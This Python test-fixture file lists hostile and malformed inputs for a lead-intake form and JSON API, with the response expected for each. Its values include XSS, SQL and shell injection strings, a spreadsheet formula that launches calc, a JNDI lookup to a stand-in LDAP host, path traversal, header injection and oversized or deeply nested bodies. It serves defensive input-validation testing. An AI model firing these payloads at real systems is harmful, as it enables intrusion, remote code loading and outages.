"""Bodies that somebody may send to break the form or the API, or by mistake; and what must become of each.

`TEXTS` are values for one field, which the form and the API both get: (name, field, value, code). Without a code the
value is stored to the letter. `FORMS` and `BODIES` are whole bodies, byte by byte, for the form and for the API.
"""

import json
from dataclasses import dataclass

B = "----boundary"
MULTIPART = f"multipart/form-data; boundary={B}"
URLENCODED = "application/x-www-form-urlencoded"
JSON = "application/json"

_HIDDEN, _BLANK, _LINE, _LONG, _EMAIL = (
    "hidden_characters", "blank", "line_break", "max_length", "invalid",
)  # fmt: skip

TEXTS: list[tuple[str, str, str, str]] = [
    # Hidden
    ("nul", "needs", "a\x00b", _HIDDEN),
    ("nul in a name", "full_name", "a\x00b", _HIDDEN),
    ("escape", "needs", "\x1b[2J\x1b]0;title\x07", _HIDDEN),
    ("backspace", "full_name", "Root\x08\x08", _HIDDEN),
    ("vertical tab", "needs", "a\x0bb", _HIDDEN),
    ("form feed", "needs", "a\x0cb", _HIDDEN),
    ("delete", "organisation", "a\x7fb", _HIDDEN),
    ("next line of C1", "needs", "a\x85b", _HIDDEN),
    ("csi of C1", "phone", "1\x9b2", _HIDDEN),
    ("bidi override", "needs", "invoice\u202efdp.exe", _HIDDEN),
    ("bidi embedding", "full_name", "\u202bAli\u202c", _HIDDEN),
    ("bidi isolate", "organisation", "\u2066A\u2069", _HIDDEN),
    ("replacement character", "needs", "caf\ufffd", "damaged"),
    # Invisible
    ("zero width alone", "full_name", "\u200b\u200b", _BLANK),
    ("joiners alone", "full_name", "\u200d\u200c", _BLANK),
    ("word joiner alone", "needs", "\u2060", _BLANK),
    ("soft hyphens alone", "full_name", "\u00ad\u00ad", _BLANK),
    ("hangul filler alone", "full_name", "\u3164", _BLANK),
    ("choseong filler alone", "needs", "\u115f\u1160", _BLANK),
    ("empty braille alone", "full_name", "\u2800\u2800", _BLANK),
    ("byte order mark alone", "needs", "\ufeff", _BLANK),
    ("grapheme joiner alone", "full_name", "\u034f", _BLANK),
    ("variation selectors alone", "full_name", "\ufe0f\ufe0f", _BLANK),
    ("tags alone", "needs", "\U000e0041\U000e0042", _BLANK),
    ("marks of direction alone", "full_name", "\u200e\u200f\u061c", _BLANK),
    ("mongolian vowel separator alone", "full_name", "\u180e", _BLANK),
    ("ideographic blanks alone", "needs", "\u3000\u3000\t\n", _BLANK),
    ("blanks that do not break alone", "needs", "\u00a0\u202f", _BLANK),
    # Lines
    ("header injection", "full_name", "A\r\nBcc: victim@other.example", _LINE),
    ("header injection by a line feed", "organisation", "A\nSubject: x", _LINE),
    ("line separator", "job_title", "A\u2028B", _LINE),
    ("paragraph separator", "phone", "1\u20292", _LINE),
    ("carriage return alone", "full_name", "A\rB", _LINE),
    ("header injection into the address", "email", "a@client.example\r\nBcc: b@c.example", _EMAIL),
    ("two addresses", "email", "a@client.example,b@client.example", _EMAIL),
    ("a name with the address", "email", "A <a@client.example>", _EMAIL),
    (
        "an address of another alphabet before the at",
        "email",
        "аdmin@client.example",
        "unusual_email",
    ),
    ("an invisible letter in the domain", "email", "a@cli\u00adent.example", "unusual_email"),
    ("a local part too long", "email", f"{'a' * 65}@client.example", "unusual_email"),
    ("an address of the house's own machine", "email", "root@localhost", "unusual_email"),
    ("a machine of the house's own by its name", "email", "root@db.internal", "unusual_email"),
    ("a machine without a name", "email", "root@[127.0.0.1]", "unusual_email"),
    ("a machine without a name, newer", "email", "root@[IPv6:::1]", "unusual_email"),
    # Length
    ("a megabyte of needs", "needs", "é" * 500_000, _LONG),
    ("a megabyte of a name", "full_name", "x" * 1_000_000, _LONG),
    ("one too many in the needs", "needs", "x" * 20_001, _LONG),
    ("one too many in a name", "full_name", "x" * 201, _LONG),
    ("one too many in a phone", "phone", "1" * 41, _LONG),
    ("astral letters count as one each", "full_name", "\U0001f98f" * 200, ""),
    ("exactly as long as may be", "needs", "x" * 20_000, ""),
    # What programs take for commands: stored to the letter
    ("formula", "organisation", "=cmd|' /C calc'!A0", ""),
    ("formula by plus", "phone", "+1+1+cmd", ""),
    ("formula by at", "full_name", "@SUM(1+1)*cmd", ""),
    ("formula by minus", "full_name", "-2+3", ""),
    ("formula by hyperlink", "needs", '=HYPERLINK("http://a.example","x")', ""),
    ("script", "needs", "<script>alert(1)</script>", ""),
    ("attribute", "full_name", '" autofocus onfocus="alert(1)', ""),
    ("image", "organisation", "<img src=x onerror=alert(1)>", ""),
    ("comment", "needs", "<!--><svg/onload=alert(1)>-->", ""),
    ("end of a text area", "needs", "</textarea><script>alert(1)</script>", ""),
    ("template of Django", "needs", "{{ settings.SECRET_KEY }}{% debug %}", ""),
    ("template of Jinja", "full_name", "{{7*7}}${7*7}#{7*7}", ""),
    ("lookup of Java", "needs", "${jndi:ldap://a.example/x}", ""),
    ("SQL", "full_name", "Robert'); DROP TABLE intake_lead;--", ""),
    ("SQL with a dollar", "needs", "$$; SELECT pg_sleep(9); $$", ""),
    ("shell", "needs", "`id`; $(id) | id && id", ""),
    ("path", "organisation", "../../../../etc/passwd", ""),
    ("percent codes", "needs", "%00%0d%0aSet-Cookie: a=b %s%n%x", ""),
    ("escapes written out", "needs", "\\u0000\\x00\\n&#0;&#x202e;", ""),
    ("entities", "full_name", "&lt;b&gt; &amp;amp;", ""),
    ("XML bomb", "needs", '<!DOCTYPE a [<!ENTITY b "bb">]><a>&b;&b;</a>', ""),
    ("JSON in a text", "needs", '{"status": "won", "owner": 1}', ""),
    ("words of machines", "full_name", "null", ""),
    ("not a number", "organisation", "NaN", ""),
    ("a number", "full_name", "1e309", ""),
    ("the markers of a form", "needs", f"--{B}--\\r\\nContent-Disposition: form-data", ""),
    # Honest, if rare: stored to the letter
    ("joiner within", "full_name", "می\u200cخواهم", ""),
    (
        "emoji of many parts",
        "needs",
        "\U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f1f2\U0001f1f1",
        "",
    ),
    ("mark of direction within", "needs", "abc \u200f(د)\u200e", ""),
    ("decomposed letters", "full_name", "Ai\u0308cha", ""),
    ("many marks on one letter", "needs", "Z" + "\u0301\u0316" * 200, ""),
    ("ligatures and full width", "organisation", "ﬁ Ａｃｍｅ", ""),
    ("Amharic", "full_name", "አበበ በቀለ", ""),
    ("N'Ko", "full_name", "ߒߞߏ", ""),
    ("private use", "needs", "\ue000\U000f0000", ""),
    ("noncharacter", "needs", "\uffff\ufdd0", ""),
    ("tabs and breaks in needs", "needs", "a\tb\n\n  c  \n", ""),
    ("one letter", "full_name", "O", ""),
    ("an apostrophe", "full_name", "Ng’ang’a wa Thiong’o", ""),
]


@dataclass(frozen=True)
class Body:
    """A whole body. `wrong` are fields that must be named, `stored` what must be there if it is taken."""

    name: str
    content_type: str
    body: bytes
    status: int
    wrong: tuple[str, ...] = ()
    stored: tuple[tuple[str, str], ...] = ()
    query: str = ""


def _part(name: str, value: str | bytes, *, file: str | None = None, extra: str = "") -> bytes:
    filename = "" if file is None else f'; filename="{file}"'
    head = f'--{B}\r\nContent-Disposition: form-data; name="{name}"{filename}\r\n{extra}\r\n'
    return head.encode() + (value.encode() if isinstance(value, str) else value) + b"\r\n"


END = f"--{B}--\r\n".encode()
_FOUR = {
    "full_name": "Aïcha Example",
    "email": "aicha@client.example",
    "needs": "Two convoys to Gao.",
    "consent": "on",
}
_PARTS = b"".join(_part(name, value) for name, value in _FOUR.items())
_PLAIN = b"full_name=A&email=a%40client.example&needs=Gao&consent=on"
_TEXT = "Content-Type: text/plain\r\n"


def _form(
    name: str, body: bytes, status: int, wrong: str = "", query: str = "", **stored: str
) -> Body:
    kind = MULTIPART if body.startswith(b"--") else URLENCODED
    return Body(name, kind, body, status, tuple(wrong.split()), tuple(stored.items()), query)


def _files(count: int, name: str = "attachments") -> bytes:
    return b"".join(_part(name, "x", file=f"{n}.txt", extra=_TEXT) for n in range(count))


FORMS: list[Body] = [
    _form("plain", _PLAIN, 303, full_name="A"),
    _form("parts", _PARTS + END, 303, full_name="Aïcha Example"),
    _form("bytes that are no UTF-8", _PLAIN.replace(b"Gao", b"Gao%FF"), 400, "needs"),
    _form("latin-1", _PLAIN.replace(b"full_name=A", b"full_name=A%EFcha"), 400, "full_name"),
    _form("an overlong NUL", _PLAIN.replace(b"Gao", b"%C0%80"), 400, "needs"),
    _form("half a surrogate pair", _PLAIN.replace(b"Gao", b"%ED%A0%80"), 400, "needs"),
    _form("raw bytes in a part", _PARTS.replace(b"Two", b"\xff\xfe") + END, 400, "needs"),
    _form(
        "UTF-16",
        "full_name=A&email=a@client.example".encode("utf-16"),
        400,
        "full_name email needs consent",
    ),
    _form("percent signs alone", b"%&%%&%zz=%", 400, "full_name email needs consent"),
    _form("nothing", b"", 400, "full_name email needs consent"),
    _form("separators alone", b"&&&;;==&", 400, "full_name email needs consent"),
    _form("a name twice", _PLAIN + b"&full_name=B", 400, "full_name"),
    _form("an address twice", _PLAIN + b"&email=b%40client.example", 400, "email"),
    _form("needs twice", _PLAIN + b"&needs=Niamey", 400, "needs"),
    _form("a name twice the same", _PLAIN + b"&full_name=A", 303, full_name="A"),
    _form("a name as a list", _PLAIN.replace(b"full_name=", b"full_name[]="), 400, "full_name"),
    _form(
        "a name as an object", _PLAIN.replace(b"full_name=", b"full_name[first]="), 400, "full_name"
    ),
    _form(
        "the query tells other things",
        _PLAIN,
        303,
        query="?full_name=Q&needs=Q&consent=",
        needs="Gao",
    ),
    _form(
        "the query tells what is missing",
        b"full_name=A",
        400,
        "email needs consent",
        query="?email=q%40client.example&needs=Q&consent=on",
    ),
    _form(
        "columns of ours",
        _PLAIN + b"&id=1&status=won&owner=1&received_at=2020&channel=api&arrival={}",
        303,
        channel="form",
    ),
    _form("no consent", _PLAIN.replace(b"&consent=on", b""), 400, "consent"),
    _form("consent refused", _PLAIN.replace(b"consent=on", b"consent=false"), 400, "consent"),
    _form("a thousand services", _PLAIN + b"&services=x" * 1000, 400, "services"),
    _form("a country of a thousand letters", _PLAIN + b"&country=" + b"X" * 1000, 400, "country"),
    _form("actors that are none", _PLAIN + b"&actors=%00&actors=..", 400, "actors"),
    _form("six thousand fields", _PLAIN + b"".join(b"&f%d=1" % n for n in range(6000)), 413),
    _form("nine megabytes", _PLAIN.replace(b"Gao", b"x" * 9_000_000), 413),
    _form("files by the hundred", _PARTS + _files(300) + END, 400, "attachments"),
    _form("files by the thousand", _PARTS + _files(1100) + END, 400, "attachments"),
    _form("files under other names", _PARTS + _files(3, "x") + END, 400, "attachments"),
    _form(
        "a file that climbs",
        _PARTS + _part("attachments", "x", file="../../etc/a.txt", extra=_TEXT) + END,
        303,
    ),
    _form(
        "a file that climbs by backslash",
        _PARTS + _part("attachments", "x", file="..\\\\..\\\\a.txt", extra=_TEXT) + END,
        303,
    ),
    _form(
        "a file without a name",
        _PARTS + _part("attachments", "x", file="", extra=_TEXT) + END,
        400,
        "attachments",
    ),
    _form("no file chosen", _PARTS + _part("attachments", "", file="", extra=_TEXT) + END, 303),
    _form(
        "a file of dots",
        _PARTS + _part("attachments", "x", file="..", extra=_TEXT) + END,
        400,
        "attachments",
    ),
    _form(
        "a program",
        _PARTS + _part("attachments", b"MZ\x90", file="a.exe", extra=_TEXT) + END,
        400,
        "attachments",
    ),
    _form(
        "a program that says it is a picture",
        _PARTS
        + _part("attachments", b"MZ", file="a.png", extra="Content-Type: image/png\r\n")
        + END,
        400,
        "attachments",
    ),
    _form(
        "a name of a file with a NUL",
        _PARTS + _part("attachments", "x", file="a\x00.txt", extra=_TEXT) + END,
        400,
        "attachments",
    ),
    _form(
        "a name of a file that reads as another",
        _PARTS + _part("attachments", "x", file="plan\u202efdp.txt", extra=_TEXT) + END,
        400,
        "attachments",
    ),
    _form(
        "a name of a file in two lines",
        _PARTS + _part("attachments", "x", file="a\u2028b.txt", extra=_TEXT) + END,
        400,
        "attachments",
    ),
    _form(
        "needs as a file",
        _PARTS.replace(b'name="needs"', b'name="needs"; filename="a.txt"') + END,
        400,
        "needs attachments",
    ),
    _form("attachments as words", _PARTS + _part("attachments", "a.txt") + END, 400, "attachments"),
    _form(
        "attachments of a form without enctype", _PLAIN + b"&attachments=a.txt", 400, "attachments"
    ),
    _form("no attachments of a form without enctype", _PLAIN + b"&attachments=", 303),
    _form(
        "a word in base64",
        _PARTS + _part("phone", "MTI=", extra="Content-Transfer-Encoding: base64\r\n") + END,
        303,
        phone="12",
    ),
    _form(
        "parts within parts",
        _PARTS
        + _part(
            "attachments",
            f"--c\r\n{_TEXT}\r\nx\r\n--c--",
            extra="Content-Type: multipart/mixed; boundary=c\r\n",
        )
        + END,
        400,
        "attachments",
    ),
    _form("no end", _PARTS, 303, full_name="Aïcha Example"),
    _form(
        "a part without a name",
        _PARTS + f"--{B}\r\nContent-Disposition: form-data\r\n\r\nx\r\n".encode() + END,
        303,
    ),
    _form("a part without a head", _PARTS + f"--{B}\r\n\r\nx\r\n".encode() + END, 303),
    _form(
        "a charset that is no text",
        _PARTS + _part("phone", "12", extra="Content-Type: text/plain; charset=hex\r\n") + END,
        303,
        phone="12",
    ),
    Body(
        "another boundary",
        MULTIPART,
        (_PARTS + END).replace(B.encode(), b"----other"),
        400,
        tuple(_FOUR),
    ),
    Body("no boundary", "multipart/form-data", _PARTS + END, 400),
    Body(
        "a boundary that is too long",
        f"multipart/form-data; boundary={'b' * 300}",
        _PARTS + END,
        400,
    ),
    Body("a boundary of other letters", "multipart/form-data; boundary=é", _PARTS + END, 400),
    Body("JSON", JSON, json.dumps(_FOUR).encode(), 400, tuple(_FOUR)),
    Body("plain text", "text/plain", _PLAIN, 400, tuple(_FOUR)),
    Body("XML", "application/xml", b"<a/>", 400, tuple(_FOUR)),
    Body("no type", "", _PLAIN, 400, tuple(_FOUR)),
]

_GOOD = {
    "full_name": "Aïcha Example",
    "email": "aicha@client.example",
    "needs": "Two convoys to Gao.",
    "consent": True,
}


def _json(name: str, change: object, status: int, *wrong: str, **stored: str) -> Body:
    told = _GOOD | change if isinstance(change, dict) else change
    return _raw(name, json.dumps(told).encode(), status, *wrong, **stored)


def _raw(name: str, body: bytes, status: int, *wrong: str, **stored: str) -> Body:
    return Body(name, JSON, body, status, wrong, tuple(stored.items()))


_TEXT_OF_GOOD = json.dumps(_GOOD)


def _with(pair: str) -> bytes:
    """The good body with one pair more, written as it stands."""
    return f"{_TEXT_OF_GOOD[:-1]}, {pair}}}".encode()


BODIES: list[Body] = [
    _json("good", {}, 201, full_name="Aïcha Example"),
    _json("a number for a name", {"full_name": 5}, 400, "/full_name"),
    _json("a truth for a name", {"full_name": True}, 400, "/full_name"),
    _json("nothing for a name", {"full_name": None}, 400, "/full_name"),
    _json("a list for a name", {"full_name": ["A"]}, 400, "/full_name"),
    _json("an object for needs", {"needs": {"a": 1}}, 400, "/needs"),
    _json("a list for an address", {"email": ["a@client.example"]}, 400, "/email"),
    _json("yes in words", {"consent": "true"}, 400, "/consent"),
    _json("yes in numbers", {"consent": 1}, 400, "/consent"),
    _json("a list for consent", {"consent": [True]}, 400, "/consent"),
    _json("a text for a list", {"services": "route-assessment"}, 400, "/services"),
    _json("lists within lists", {"services": [["route-assessment"]]}, 400, "/services/0"),
    _json(
        "nothing within a list", {"countries_of_interest": [None]}, 400, "/countries_of_interest/0"
    ),
    _json(
        "a thousand countries",
        {"countries_of_interest": ["ML"] * 1000},
        400,
        "/countries_of_interest",
    ),
    _json("a thousand services that are none", {"services": ["x"] * 1000}, 400, "/services"),
    _json(
        "a thousand lists for a list",
        {"countries_of_interest": [[]] * 1000},
        400,
        "/countries_of_interest",
    ),
    _json("a thousand words for files", {"attachments": ["x"] * 1000}, 400, "/attachments"),
    _json("a file", {"attachments": ["x"]}, 400, "/attachments"),
    _json("a name that is none", {"organization": "A"}, 400, "/organization"),
    _json("a name that is empty", {"": "A"}, 400, "/"),
    _json("names of ours", {"id": 1, "status": "won", "owner": 1}, 400, "/id", "/status", "/owner"),
    _json(
        "names of Python",
        {"__class__": "A", "__proto__": {"a": 1}},
        400,
        "/__class__",
        "/__proto__",
    ),
    _json("a name with a slash and a tilde", {"a/b~c": 1}, 400, "/a~1b~0c"),
    _json("a name with a NUL", {"a\x00": 1}, 400, "/a\x00"),
    _json("a name that is half a pair", {"\ud800": 1}, 400, "/\ud800"),
    _json("a list of requests", [_GOOD, _GOOD], 400, ""),
    _json("a text", "text", 400, ""),
    _json("nothing", None, 400, ""),
    _json("half a pair in needs", {"needs": "a\ud800b"}, 400, "/needs"),
    _json("half a pair as a choice", {"country": "\udfff"}, 400, "/country"),
    _raw("a name twice", _with('"full_name": "B"'), 400, "/full_name"),
    _raw("consent twice", _with('"consent": false'), 400, "/consent"),
    _raw("a pair twice the same", _with('"needs": "Two convoys to Gao."'), 400, "/needs"),
    _raw("a name twice, once in escapes", _with('"full\\u005fname": "B"'), 400, "/full_name"),
    _raw("not a number", _with('"budget": NaN'), 400, "/budget"),
    _raw("infinity", _with('"budget": -Infinity'), 400, "/budget"),
    _raw("more than a float holds", _with('"budget": 1e999'), 400, "/budget"),
    _raw("a number of fifty thousand digits", _with(f'"budget": {"9" * 50_000}'), 400, "/budget"),
    _raw("deep lists", _with(f'"services": {"[" * 50_000}{"]" * 50_000}'), 400, ""),
    _raw("deep objects", b'{"a":' * 50_000 + b"1" + b"}" * 50_000, 400, ""),
    _raw("no value", b"", 400, "/full_name", "/email", "/needs", "/consent"),
    _raw("blanks", b" \n ", 400, ""),
    _raw("half an object", _TEXT_OF_GOOD[:-9].encode(), 400, ""),
    _raw("two objects", _TEXT_OF_GOOD.encode() * 2, 400, ""),
    _raw("a comma too many", _TEXT_OF_GOOD[:-1].encode() + b",}", 400, ""),
    _raw("single quotes", b"{'full_name': 'A'}", 400, ""),
    _raw("a comment", _TEXT_OF_GOOD.encode() + b"/* x */", 400, ""),
    _raw("a NUL behind it", _TEXT_OF_GOOD.encode() + b"\x00", 400, ""),
    _raw("a byte order mark", b"\xef\xbb\xbf" + _TEXT_OF_GOOD.encode(), 400, ""),
    _raw("UTF-16", _TEXT_OF_GOOD.encode("utf-16"), 400, ""),
    _raw("latin-1", '{"full_name": "Aïcha"}'.encode("latin-1"), 400, ""),
    _raw("an overlong NUL", b'{"full_name": "\xc0\x80"}', 400, ""),
    _raw("packed", b"\x1f\x8b\x08\x00" + b"\x00" * 50, 400, ""),
    _raw("a control character as it is", b'{"full_name": "a\x01b"}', 400, ""),
    _raw("a megabyte", json.dumps(_GOOD | {"needs": "x" * 1_000_000}).encode(), 400, "/needs"),
    _raw("five megabytes", json.dumps(_GOOD | {"needs": "x" * 5_000_000}).encode(), 413),
    _raw("five megabytes of a name", json.dumps(_GOOD | {"x" * 5_000_000: 1}).encode(), 413),
    Body("a form", URLENCODED, _PLAIN, 415),
    Body("consent in words of a form", MULTIPART, _PARTS + END, 400, ("/consent",)),
    Body("text", "text/plain", _TEXT_OF_GOOD.encode(), 415),
    Body("a media type that is none", "x", _TEXT_OF_GOOD.encode(), 415),
    Body(
        "a codec that is no text",
        f"{JSON}; charset=hex",
        _TEXT_OF_GOOD.encode(),
        201,
        (),
        (("needs", "Two convoys to Gao."),),
    ),
]
